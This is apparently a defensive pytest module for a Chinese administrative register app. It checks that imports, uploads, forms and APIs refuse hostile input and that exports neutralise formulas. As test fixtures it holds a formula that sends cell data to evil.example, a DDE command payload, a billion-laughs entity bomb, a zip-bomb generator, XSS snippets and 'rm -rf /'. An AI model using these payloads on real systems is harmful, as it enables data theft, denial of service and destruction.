"""Reliability: malformed and hostile input never gets in and never takes the process down.

Every importable register (read from the register registry, not listed by hand)
is fed broken and hostile Excel files through its import page; every upload
door gets disguised and oversized files; every register form and API create
endpoint gets over-long text, impossible dates and bad amounts. Each must be
refused with a Chinese message that names the rule, write no row and no audit
event, and never answer 500. Exports write formula-looking text as text.
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import time
import zipfile
from decimal import Decimal

import pytest
from django import forms
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import NoReverseMatch
from openpyxl import load_workbook

import fazhi.urls  # noqa: F401  (loads every app's registers into the registry)
from fazhi.core.models import Attachment, AuditEvent
from fazhi.core.registers import excel
from fazhi.core.registers.base import ID_HEADER, registry
from fazhi.core.roles import STAFF_ROLES
from fazhi.core.tests.factories import PersonFactory, login, user_with_role, xlsx_bytes

pytestmark = pytest.mark.django_db

IMPORTABLE = sorted(k for k, r in registry.items() if r.importable and r.form_class is not None)
NOT_IMPORTABLE = sorted(k for k, r in registry.items() if not r.importable)
WITH_FORM = sorted(k for k, r in registry.items() if r.form_class is not None)


# -- people ------------------------------------------------------------------------


@pytest.fixture
def staff(town_a):
    """One account holding every staff role (not the three administrators')."""
    user = user_with_role("all_staff", STAFF_ROLES[0], town_a, display_name="全岗位")
    for role in STAFF_ROLES[1:]:
        user.groups.add(Group.objects.get(name=role))
    return user


@pytest.fixture
def sysadmin(db):
    return user_with_role("sys_x", "sysadmin", None, display_name="系统管理员")


def _actor(register, verbs, *candidates):
    for user in candidates:
        if all(register.can(user, v) for v in verbs):
            return user
    return None


def _counts(*models) -> tuple[int, ...]:
    return (
        *(m._default_manager.count() for m in models),
        AuditEvent.objects.count(),
        Attachment.objects.count(),
    )


# -- workbooks, sound and hostile ------------------------------------------------------


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _col(n: int) -> str:
    name = ""
    while n:
        n, rem = divmod(n - 1, 26)
        name = chr(65 + rem) + name
    return name


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{_esc(text)}</t></is></c>'


def _raw_xlsx(sheet_data: str, *, dimension: str = "", prolog: str = "", pad: int = 0) -> bytes:
    """A hand-written .xlsx whose one sheet holds `sheet_data` (rows as XML): for
    what openpyxl would never write (a forged dimension, cached formula values,
    a document type, a part that expands hugely)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{SHEET_NS}">{dim}<sheetData>{sheet_data}</sheetData></worksheet>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        if pad:
            # Whitespace between elements: valid XML, compresses about a thousand to one.
            sheet = sheet.replace("<sheetData>", "<sheetData>" + " " * pad, 1)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return buf.getvalue()


def _header_row(headers: list[str], r: int = 1) -> str:
    return (
        f'<row r="{r}">'
        + "".join(_text_cell(f"{_col(i)}{r}", h) for i, h in enumerate(headers, 1))
        + "</row>"
    )


UNREADABLE = "无法读取文件"


def _hostile_workbooks(headers: list[str]) -> list[tuple[str, bytes, tuple[str, ...]]]:
    """(kind, bytes, any of these Chinese messages) for a register whose importable
    columns are `headers`."""
    sound = xlsx_bytes([headers, ["样例"] * len(headers)])
    n = len(headers)
    formulas = {
        "formula_arithmetic": "=1+1",
        "formula_hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
        "formula_dde": "=cmd|' /C calc'!A0",
    }
    found = []
    for kind, formula in formulas.items():
        # As openpyxl writes it (no cached value) and as Excel saves it (with one).
        found.append((kind, xlsx_bytes([headers, [formula] * n]), ("公式",)))
        row = '<row r="2">' + "".join(
            f'<c r="{_col(i)}2" t="str"><f>{_esc(formula[1:])}</f><v>2023-01-01</v></c>' for i in range(1, n + 1)
        ) + "</row>"  # fmt: skip
        found.append((kind + "_cached", _raw_xlsx(_header_row(headers) + row), ("公式",)))
    bad_cells = [
        True,
        dt.datetime(1899, 12, 31, 13, 5),
        1e308,
        -1,
        "2023-02-30",
        "x" * 5000,
        "\u202e\ufeff反转",
    ]
    wrong_types = [[bad_cells[(i + j) % len(bad_cells)] for i in range(n)] for j in range(len(bad_cells))]
    billion_laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
        '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
        '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
        '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
        '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
        '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">]>'
    )
    return [
        ("empty_file", b"", (UNREADABLE,)),
        ("csv_renamed", ",".join(headers).encode("gbk", "replace") + b"\r\n1,2,3\r\n", (UNREADABLE,)),
        ("html_renamed", b"<html><script>alert(1)</script></html>", (UNREADABLE,)),
        ("exe_renamed", b"MZ\x90\x00\x03" + b"\x00" * 500, (UNREADABLE,)),
        ("pdf_renamed", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", (UNREADABLE,)),
        ("xls_renamed", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, (UNREADABLE,)),
        ("zip_not_xlsx", _zip({"readme.txt": "不是表格"}), (UNREADABLE,)),
        ("truncated_xlsx", sound[: len(sound) // 2], (UNREADABLE,)),
        ("broken_sheet_xml", _raw_xlsx(_header_row(headers) + '<row r="2"><c r="A2"'), (UNREADABLE,)),
        ("bad_cell_reference", _raw_xlsx(_header_row(headers) + '<row r="2"><c r="??"><v>1</v></c></row>'),
         (UNREADABLE,)),
        ("billion_laughs", _raw_xlsx(_header_row(headers) + '<row r="2">' + _text_cell("A2", "&lol8;")
                                     .replace("&amp;lol8;", "&lol8;") + "</row>", prolog=billion_laughs),
         (UNREADABLE,)),
        ("zip_bomb", _zip_bomb(), ("解压后", "超过")),
        ("dimension_bomb", _raw_xlsx(_header_row(headers) + '<row r="1048576">' + _text_cell("A1048576", "尾")
                                     + "</row>", dimension="A1:XFD1048576"), ("行数", "超过")),
        ("wide_header", _raw_xlsx(_header_row(headers) + "".join(
            f'<row r="{r}">{_text_cell(f"XFD{r}", "宽")}</row>' for r in range(2, 40))), ("没有可导入的数据行",)),
        ("wide_rows", _raw_xlsx(_header_row([*headers, *("多余列" for _ in range(300))])), ("列数", "超过")),
        ("header_only", xlsx_bytes([headers]), ("没有可导入的数据行",)),
        ("no_header", xlsx_bytes([[None] * n, [None] * n]), ("文件为空",)),
        ("missing_columns", xlsx_bytes([["无关列", "另一列"], ["甲", "乙"]]), ("缺少必需的列",)),
        ("unknown_record_id", xlsx_bytes([[ID_HEADER, *headers], [987654321, *(["样例"] * n)]]),
         ("系统编号",)),
        ("wrong_types", xlsx_bytes([headers, *wrong_types]), ("第2行",)),
        *found,
    ]  # fmt: skip


@functools.cache
def _zip_bomb() -> bytes:
    """About 150 KB that expand to 150 MB of sheet XML (whitespace, so valid)."""
    return _raw_xlsx(_header_row(["姓名"]), pad=150 * 1024 * 1024)


def _zip(members: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in members.items():
            z.writestr(name, text)
    return buf.getvalue()


def _page_text(response) -> str:
    return response.content.decode()


@pytest.mark.parametrize("key", IMPORTABLE)
def test_hostile_workbooks_are_refused_by_every_import(client, key, staff, sysadmin):
    register = registry[key]
    user = _actor(register, ("add", "change"), staff, sysadmin)
    assert user is not None, f"no test account may import {key}"
    login(client, user)
    url = register.url("import")
    headers = [c.header for c in register.importable_columns]
    for kind, data, messages in _hostile_workbooks(headers):
        before = _counts(register.model)
        started = time.monotonic()
        r = client.post(
            url, {"file": SimpleUploadedFile(f"{kind}.xlsx", data, content_type=excel.XLSX_CONTENT_TYPE)}
        )
        took = time.monotonic() - started
        assert r.status_code == 400, (key, kind, r.status_code)
        page = _page_text(r)
        assert any(m in page for m in messages), (
            key,
            kind,
            [e.message for e in r.context["result"].errors][:5],
        )
        assert _counts(register.model) == before, (key, kind)
        assert took < 20, (key, kind, took)


@pytest.mark.parametrize("key", IMPORTABLE[:3])
def test_limits_are_named_in_the_message(client, key, staff, sysadmin):
    register = registry[key]
    login(client, _actor(register, ("add", "change"), staff, sysadmin))
    headers = [c.header for c in register.importable_columns]
    url = register.url("import")
    before = _counts(register.model)
    with override_settings(FAZHI_IMPORT_MAX_ROWS=5):
        data = xlsx_bytes([headers, *(["样例"] * len(headers) for _ in range(6))])
        r = client.post(url, {"file": SimpleUploadedFile("many.xlsx", data)})
        assert r.status_code == 400 and "一次最多导入5行" in _page_text(r)
        # Blank rows in between do not let a sheet run on forever.
        data = _raw_xlsx(_header_row(headers) + '<row r="900000">' + _text_cell("A900000", "尾") + "</row>")
        r = client.post(url, {"file": SimpleUploadedFile("far.xlsx", data)})
        assert r.status_code == 400 and "行数超过" in _page_text(r)
    with override_settings(FAZHI_IMPORT_MAX_BYTES=4096):
        data = xlsx_bytes([headers, *(["很长的内容" * 10] * len(headers) for _ in range(50))])
        assert len(data) > 4096
        r = client.post(url, {"file": SimpleUploadedFile("big.xlsx", data)})
        page = _page_text(r)
        assert r.status_code == 400 and "文件超过4KB" in page, page[-2000:]
    assert _counts(register.model) == before


@pytest.mark.parametrize("key", NOT_IMPORTABLE)
def test_a_register_without_import_takes_no_workbook(client, key, staff, sysadmin):
    register = registry[key]
    user = _actor(register, ("view",), staff, sysadmin) or staff
    login(client, user)
    try:
        url = register.url("import")
    except NoReverseMatch:  # an app's own URLs may leave the import page out
        return
    headers = [c.header for c in register.importable_columns]
    before = _counts(register.model)
    r = client.post(
        url, {"file": SimpleUploadedFile("x.xlsx", xlsx_bytes([headers, ["样例"] * len(headers)]))}
    )
    assert r.status_code in (403, 404), (key, r.status_code)
    assert _counts(register.model) == before


# -- uploads ---------------------------------------------------------------------------

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100
DISGUISED = [
    ("exe_as_jpg", "photo.jpg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200),
    ("html_as_pdf", "decision.pdf", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
    ("svg_as_png", "map.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("script_as_docx", "notes.docx", b"#!/bin/sh\nrm -rf /\n"),
    ("zip_as_docx", "notes.docx", _zip({"evil.sh": "rm -rf /"})),
    ("empty", "empty.jpg", b""),
]
TYPE_RULE = "类型按文件内容判断"


def _person(town):
    return PersonFactory(org_unit=town)


def test_disguised_and_oversized_attachments_are_refused_on_the_page(client, staff, town_a):
    owner = _person(town_a)
    login(client, staff)
    for kind, name, data in DISGUISED:
        before = _counts()
        r = client.post(
            "/files/upload/",
            {"owner": f"core.person:{owner.pk}", "file": SimpleUploadedFile(name, data)},
            follow=True,
        )
        assert r.status_code == 200, kind
        text = " ".join(str(m) for m in r.context["messages"])
        assert TYPE_RULE in text or "请选择" in text, (kind, text)
        assert _counts() == before, kind
    with override_settings(FAZHI_UPLOAD_MAX_BYTES=1024):
        before = _counts()
        r = client.post(
            "/files/upload/",
            {
                "owner": f"core.person:{owner.pk}",
                "file": SimpleUploadedFile("big.jpg", JPEG + b"\x00" * 2048),
            },
            follow=True,
        )
        text = " ".join(str(m) for m in r.context["messages"])
        assert "文件超过1KB的上限" in text, text
        assert _counts() == before


def test_disguised_and_oversized_attachments_are_refused_by_the_api(client, staff, town_a):
    owner = _person(town_a)
    login(client, staff)
    for kind, name, data in DISGUISED:
        before = _counts()
        r = client.post(
            "/api/v1/attachments/",
            {"owner": f"core.person:{owner.pk}", "file": SimpleUploadedFile(name, data)},
        )
        assert r.status_code == 400, (kind, r.status_code, r.content[:300])
        body = r.content.decode()
        assert TYPE_RULE in body or "空" in body or "提交的数据不是一个文件" in body, (kind, body)
        assert _counts() == before, kind
    with override_settings(FAZHI_UPLOAD_MAX_BYTES=1024):
        r = client.post(
            "/api/v1/attachments/",
            {
                "owner": f"core.person:{owner.pk}",
                "file": SimpleUploadedFile("big.jpg", JPEG + b"\x00" * 2048),
            },
        )
        assert r.status_code == 400 and r.json()["code"] == "file_too_large"
        assert "文件超过1KB的上限" in r.json()["detail"]


def test_a_good_attachment_still_goes_in(client, staff, town_a):
    owner = _person(town_a)
    login(client, staff)
    r = client.post(
        "/api/v1/attachments/",
        {"owner": f"core.person:{owner.pk}", "file": SimpleUploadedFile("a.jpg", JPEG)},
    )
    assert r.status_code == 201, r.content
    assert Attachment.objects.count() == 1


def test_disguised_photos_on_the_phone_api_save_no_case(client, staff, town_a):
    """The on-the-spot penalty with an .exe named .jpg as its photo: refused before
    anything is written (the fields themselves are incomplete on purpose: the
    photos are checked first or the fields are; either way no case)."""
    from fazhi.enforcement.models import Case

    login(client, staff)
    for kind, name, data in DISGUISED[:3]:
        before = _counts(Case)
        r = client.post(
            "/api/v1/enforcement/cases/summary/",
            {"photos": [SimpleUploadedFile(name, data)], "party_name": "张三", "fine": "-5"},
            HTTP_IDEMPOTENCY_KEY=f"bad-input-{kind}",
        )
        assert r.status_code == 400, (kind, r.status_code, r.content[:300])
        assert _counts(Case) == before


# -- forms and API create endpoints ------------------------------------------------------

BAD_DATES = {"impossible": "2023-02-30", "far_future": "9999-12-31", "before_1900": "1899-12-31"}
BAD_AMOUNTS = {"negative": "-1.00", "too_many_decimals": "1.234", "not_a_number": "十元", "huge": "1e400"}


def _hostile_form_data(form, date_value: str, amount_value: str) -> tuple[dict, dict]:
    """(data, {field: kind}) for a form: every text field one character over its
    limit, every date `date_value`, every amount `amount_value`."""
    data, expected = {}, {}
    for name, field in form.fields.items():
        if field.disabled or isinstance(field.widget, forms.HiddenInput):
            continue
        if isinstance(field, forms.DateTimeField):
            continue
        if isinstance(field, forms.DateField):
            data[name], expected[name] = date_value, "date"
        elif isinstance(field, forms.DecimalField):
            if name in ("latitude", "longitude"):
                continue
            data[name], expected[name] = amount_value, "amount"
        elif isinstance(field, forms.CharField) and not isinstance(field, forms.ChoiceField):
            limit = getattr(field, "max_length", None)
            if limit:
                data[name], expected[name] = "法" * (limit + 1), "text"
    return data, expected


def _chinese(text: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)


@pytest.mark.parametrize("key", WITH_FORM)
def test_forms_refuse_long_text_bad_dates_and_bad_amounts(client, key, staff, sysadmin):
    register = registry[key]
    user = _actor(register, ("add",), staff, sysadmin)
    if user is None:
        pytest.skip(f"no test account may add to {key}")
    login(client, user)
    try:
        url = register.url("create")
    except NoReverseMatch:
        url = None
    for (dkind, date_value), (akind, amount_value) in zip(
        BAD_DATES.items(), [*BAD_AMOUNTS.items()][: len(BAD_DATES)], strict=False
    ):
        form = register.form_class(user=user)
        data, expected = _hostile_form_data(form, date_value, amount_value)
        if not expected:
            continue
        form = register.form_class(data=data, user=user)
        assert not form.is_valid()
        for name, what in expected.items():
            errors = form.errors.get(name)
            assert errors, (key, name, what, dkind, akind, data[name][:20])
            assert all(_chinese(e) for e in errors), (key, name, errors)
        if url is not None:
            before = _counts(register.model)
            r = client.post(url, data)
            assert r.status_code in (200, 400), (key, r.status_code)
            assert _counts(register.model) == before
    form = register.form_class(user=user)
    data, expected = _hostile_form_data(form, "2023-02-28", BAD_AMOUNTS["huge"])
    if any(v == "amount" for v in expected.values()):
        form = register.form_class(data=data, user=user)
        assert not form.is_valid()
        assert all(form.errors.get(n) for n, v in expected.items() if v == "amount"), (key, form.errors)


def _api_routes():
    from fazhi.api.urls import router

    found = []
    for prefix, viewset, basename in router.registry:
        register = getattr(viewset, "register", None)
        if register is None or not hasattr(viewset, "create"):
            continue
        found.append((prefix, basename))
    return sorted(found)


API_ROUTES = _api_routes()


@pytest.mark.parametrize(("prefix", "basename"), API_ROUTES)
def test_api_create_refuses_long_text_bad_dates_and_bad_amounts(client, prefix, basename, staff, sysadmin):
    from fazhi.api.urls import router

    viewset = next(v for p, v, b in router.registry if p == prefix)
    register = viewset.register
    user = _actor(register, ("add",), staff, sysadmin)
    if user is None or register.form_class is None:
        pytest.skip(f"no test account may add to {prefix}")
    login(client, user)
    for (dkind, date_value), (akind, amount_value) in zip(
        BAD_DATES.items(), [*BAD_AMOUNTS.items()][: len(BAD_DATES)], strict=False
    ):
        data, expected = _hostile_form_data(register.form_class(user=user), date_value, amount_value)
        if not expected:
            continue
        before = _counts(register.model)
        r = client.post(f"/api/v1/{prefix}/", data, content_type="application/json")
        assert r.status_code == 400, (prefix, dkind, akind, r.status_code, r.content[:300])
        body = r.json()
        assert _chinese(str(body)), (prefix, body)
        assert _counts(register.model) == before, prefix


# -- export: formula-looking text stays text ------------------------------------------------


@pytest.mark.parametrize("payload", ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x","y")',
                                     "=cmd|' /C calc'!A0"])  # fmt: skip
def test_export_writes_formula_looking_text_as_text(client, officer_town_a, town_a, payload):
    from fazhi.core.models import Person

    PersonFactory(org_unit=town_a, name=payload, note=payload)
    client.force_login(officer_town_a)
    data = client.get("/core/people/export/").content
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row if c.value == payload]
    assert cells and all(c.data_type == "s" for c in cells)
    # The error workbook of an import repeats the rows the same way.
    result = excel.ImportResult(
        headers=["备注"], rows=[(2, [payload])], errors=[excel.RowError(2, "备注", "错")]
    )
    assert (
        "<f>"
        not in zipfile.ZipFile(io.BytesIO(result.error_workbook())).read("xl/worksheets/sheet1.xml").decode()
    )
    assert Person.objects.count() == 1


def test_amount_quantities_and_dates_in_excel_cells_are_checked(staff, town_a):
    """A few parsers fed the wrong cell types directly: a Chinese ValueError, never another exception."""
    from fazhi.core.definitions import parse_bool, parse_date
    from fazhi.enforcement.definitions import parse_decimal

    for raw in ["2023-02-30", "45000", True, "abc", 1e308]:
        with pytest.raises(ValueError, match="日期"):
            parse_date(raw, staff)
    for raw in ["十元", "1e400", "inf", "NaN", "1.234", "-5"]:
        with pytest.raises(ValueError, match="金额"):
            parse_decimal(raw, staff)
    assert parse_decimal("200.5", staff) == Decimal("200.50")
    with pytest.raises(ValueError, match="是"):
        parse_bool(dt.date(2023, 1, 1), staff)
